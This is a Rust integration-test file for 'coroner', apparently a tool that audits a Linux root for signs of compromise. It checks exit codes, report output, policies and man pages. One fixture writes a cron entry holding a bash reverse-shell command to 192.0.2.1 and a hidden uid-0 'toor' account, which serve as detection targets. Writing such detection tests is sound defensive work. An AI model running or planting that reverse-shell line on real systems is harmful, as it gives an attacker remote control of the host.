//! Arguments, exit statuses and where reports go.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)] // tests

mod support;

use std::path::Path;
use std::process::Stdio;

use coroner_core::{Level, Mode, Report};
use coroner_testkit::Tree;
use support::{audit, copy_program, coroner, report, status};

/// A root on which nothing is found: quick to audit, with the files every plugin asks for.
fn quiet() -> Tree {
    Tree::new()
        .file("/etc/os-release", "ID=debian\nVERSION_ID=\"12\"\n")
        .file("/etc/hostname", "quiet\n")
        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\n")
        .file("/etc/shadow", "root:*:19000:0:99999:7:::\n")
        .mode("/etc/shadow", 0o640)
        .file("/etc/group", "root:x:0:\n")
        .dir("/proc")
        .dir("/sys")
}

fn refused(args: &[&str], says: &str) {
    let output = coroner().args(args).output().unwrap();
    let errors = String::from_utf8_lossy(&output.stderr).into_owned();
    assert_eq!(status(&output), 64, "{args:?}: {errors}");
    assert!(errors.contains(says), "{args:?}: {errors}");
    assert!(output.stdout.is_empty());
}

#[test]
fn wrong_arguments_end_with_64_and_say_what_to_mend() {
    refused(&["audti"], "audit");
    refused(&["audit", "--root", "/no/such/root"], "/no/such/root");
    refused(&["audit", "--only", "corn"], "cron");
    refused(&["audit", "--trusted-net", "203.0.113.0/33"], "203.0.113.0/33");
    refused(&["audit", "--label", "gateway"], "KEY=VALUE");
    refused(&["audit", "--proc", "/proc"], "--root");
    refused(&["audit", "-o", "/no/such/dir/report.json"], "/no/such/dir");
    refused(&["audit", "--wordlist", "/no/such/list"], "/no/such/list");
    refused(&["judge", "/no/such/report"], "/no/such/report");
    refused(&["judge", "/dev/null"], "not a coroner report");
    refused(&["plugins", "nothing"], "coroner plugins");
}

#[test]
fn a_policy_that_could_do_nothing_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let policy = dir.path().join("policy.toml");
    std::fs::write(&policy, "[[accept]]\nrule = 'no/such'\npath = '/x'\nreason = 'r'\n").unwrap();
    refused(&["audit", "--policy", policy.to_str().unwrap()], "no/such");
}

#[test]
fn a_report_in_a_file_is_whole_and_says_what_standard_output_would() {
    let root = quiet().write();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("report.json");
    let output =
        coroner().args(["audit", "--root"]).arg(root.path()).arg("-o").arg(&file).output().unwrap();
    assert!(output.stdout.is_empty(), "{}", String::from_utf8_lossy(&output.stdout));
    let written = Report::from_json(&std::fs::read(&file).unwrap()).unwrap();
    assert_eq!(i32::from(written.verdict.level.exit_status()), status(&output));
    let names: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
    assert_eq!(names.len(), 1, "nothing is left beside the report");
}

#[test]
fn a_full_disk_leaves_no_report_that_looks_whole() {
    let root = quiet().write();
    let output = coroner()
        .args(["audit", "--format", "json", "--root"])
        .arg(root.path())
        .stdout(std::fs::File::create("/dev/full").unwrap())
        .output()
        .unwrap();
    assert_eq!(status(&output), 70);
    assert!(String::from_utf8_lossy(&output.stderr).contains("standard output"));
}

#[test]
fn a_reader_that_goes_away_does_not_hide_the_verdict() {
    let root = quiet().write();
    let mut child = coroner()
        .args(["audit", "--format", "json", "--root"])
        .arg(root.path())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    assert!([0, 1, 2, 3].contains(&status(&output)), "{output:?}");
    assert!(output.stderr.is_empty(), "{output:?}");
}

#[test]
fn a_saved_report_is_judged_to_the_same_findings() {
    let root = quiet()
        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n")
        .file("/etc/cron.d/x", "* * * * * root bash -i >& /dev/tcp/192.0.2.1/443 0>&1\n")
        .write();
    let (first, verdict) = audit(root.path(), &[]);
    assert_eq!(first.verdict.level, Level::Compromised);
    let saved = root.path().join("report.json");
    std::fs::write(&saved, serde_json::to_vec(&first).unwrap()).unwrap();
    let output = coroner().args(["judge", "--format", "json"]).arg(&saved).output().unwrap();
    let again = report(&output);
    assert_eq!(again.findings, first.findings);
    assert_eq!((again.verdict, again.items), (first.verdict, first.items));
    assert_eq!(status(&output), verdict);
}

#[test]
fn an_accepted_finding_stays_visible_and_no_longer_speaks() {
    let root = quiet()
        .file("/etc/passwd", "root:x:0:0:root:/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n")
        .write();
    let (report, _) = audit(root.path(), &[]);
    let loud: Vec<_> = report.findings.iter().filter(|f| f.path.is_some()).collect();
    assert!(!loud.is_empty());
    let accept = |f: &&coroner_core::Finding| {
        format!("[[accept]]\nrule = '{}'\nid = '{}'\nreason = 'test'\n", f.rule, f.id)
    };
    let policy = root.path().join("policy.toml");
    std::fs::write(&policy, loud.iter().map(accept).collect::<String>()).unwrap();
    let (accepted, _) = audit(root.path(), &["--policy", policy.to_str().unwrap()]);
    assert_eq!(accepted.findings.len(), report.findings.len());
    assert!(accepted.findings.iter().filter(|f| f.path.is_some()).all(|f| f.accepted.is_some()));
    assert!(!accepted.verdict.reasons.iter().any(|id| loud.iter().any(|f| f.id == *id)));
}

#[test]
fn the_same_root_gives_the_same_bytes_times_aside() {
    let root = quiet().file("/etc/cron.d/a", "* * * * * root /bin/true\n").write();
    let masked = |(mut report, _): (Report, i32)| {
        let fixed = coroner_core::Time::from_seconds(0);
        (report.run.started, report.run.finished) = (fixed, fixed);
        report.coverage.iter_mut().for_each(|row| row.ms = 0);
        serde_json::to_string(&report).unwrap()
    };
    assert_eq!(masked(audit(root.path(), &[])), masked(audit(root.path(), &[])));
}

#[test]
fn a_mounted_host_with_its_proc_is_audited_live() {
    let root = quiet().write();
    let (offline, _) = audit(root.path(), &["--scope", "quick"]);
    let (live, _) = audit(root.path(), &["--scope", "quick", "--proc", "/proc"]);
    assert_eq!((offline.run.mode, live.run.mode), (Mode::Offline, Mode::Live));
    assert!(offline.host.kernel.is_none() && live.host.kernel.is_some());
    let kinds = |report: &Report| report.items.iter().filter(|i| i.kind == "kernel.state").count();
    assert!(kinds(&live) > kinds(&offline));
}

#[test]
fn without_root_nothing_is_called_clean() {
    use std::os::unix::process::CommandExt;
    if !coroner_host::is_privileged() {
        return;
    }
    let root = quiet().write();
    open_to_all(root.path());
    let binary = tempfile::Builder::new().prefix("bin").tempdir().unwrap();
    open_to_all(binary.path());
    let copy = binary.path().join("coroner");
    copy_program(Path::new(env!("CARGO_BIN_EXE_coroner")), &copy);
    let output = std::process::Command::new(copy)
        .args(["audit", "--format", "json", "--root"])
        .arg(root.path())
        .uid(65534)
        .gid(65534)
        .output()
        .unwrap();
    let report = report(&output);
    assert_eq!(report.verdict.level, Level::Inconclusive);
    assert_eq!(status(&output), 3);
    let unseen: Vec<_> = report.gaps.iter().map(|gap| gap.path.to_string()).collect();
    assert!(unseen.contains(&"/etc/shadow".to_owned()), "{unseen:?}");
}

fn open_to_all(dir: &Path) {
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
}

#[test]
fn bash_completes_commands_from_the_script_made_for_it() {
    let output = coroner().args(["completions", "bash"]).output().unwrap();
    let script = tempfile::NamedTempFile::new().unwrap();
    std::fs::write(script.path(), &output.stdout).unwrap();
    let ask = "source $0; COMP_WORDS=(coroner thr); COMP_CWORD=1; _coroner coroner thr coroner; echo ${COMPREPLY[@]}";
    let answer =
        std::process::Command::new("bash").args(["-c", ask]).arg(script.path()).output().unwrap();
    assert_eq!(String::from_utf8_lossy(&answer.stdout), "throttle\n", "{answer:?}");
}

#[test]
fn every_command_has_a_man_page_of_its_own() {
    let dir = tempfile::tempdir().unwrap();
    let output = coroner().args(["man", "--out"]).arg(dir.path()).output().unwrap();
    assert_eq!(status(&output), 0, "{output:?}");
    let page = |name: &str| std::fs::read_to_string(dir.path().join(name)).unwrap();
    assert!(page("coroner.1").starts_with(".ie"), "{}", page("coroner.1"));
    assert!(page("coroner-audit.1").contains("coroner audit \\-\\-root /mnt"));
    assert!(page("coroner-throttle-revert.1").contains(".TH coroner-throttle-revert 1"));
    refused(&["man", "--out", "/no/such/folder"], "/no/such/folder");
}

#[test]
fn a_quiet_audit_says_nothing_but_its_answer() {
    let (root, state) = (quiet().write(), tempfile::tempdir().unwrap());
    let audit = |more: &[&str]| {
        let mut command = coroner();
        command.args(["audit", "--format", "json", "--since-last", "--root"]).arg(root.path());
        command.arg("--state").arg(state.path()).args(more).output().unwrap()
    };
    let quiet = audit(&["--quiet"]);
    assert!(quiet.stderr.is_empty(), "{}", String::from_utf8_lossy(&quiet.stderr));
    report(&quiet);
    std::fs::remove_dir_all(state.path()).unwrap();
    let spoken = String::from_utf8_lossy(&audit(&[]).stderr).into_owned();
    assert!(spoken.contains("no earlier report"), "{spoken}");
}
